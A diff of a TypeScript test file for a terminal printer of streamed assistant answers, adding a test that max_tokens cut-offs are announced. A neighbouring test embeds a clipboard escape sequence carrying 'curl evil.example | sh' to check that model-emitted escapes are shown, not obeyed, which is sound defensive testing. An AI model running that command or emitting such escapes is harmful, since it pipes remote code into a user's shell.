@@ -134,6 +134,21 @@ describe("what the printer shows of a streamed answer", () => {
     expect(out).toMatch(/assistant › All done\.\n {2}tokens: 7 in · 3 out\n/);
   });
 
+  it("an answer cut off at max_tokens says so, streamed or not (s01 stops there; the reader must know)", async () => {
+    const cut = (reply: FakeReply) => {
+      (reply.body as { stop_reason: string }).stop_reason = "max_tokens";
+      return reply;
+    };
+    const { env, written } = await envAgainst([
+      streamed(cut(endTurn("The first half of"))),
+      cut(endTurn("Another half")),
+    ]);
+    const agent = s01.createAgent(env);
+    await agent.send("write a lot");
+    await agent.send("again");
+    expect(written().match(/cut off: the answer reached its max_tokens limit/g)).toHaveLength(2);
+  });
+
   it("model escapes split across deltas are shown, not obeyed (and astral format characters too)", async () => {
     const clipboard = `${ESC}]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}\x07`;
     const said = `before ${ESC}[2K${clipboard} tag\u{E0041} after`;
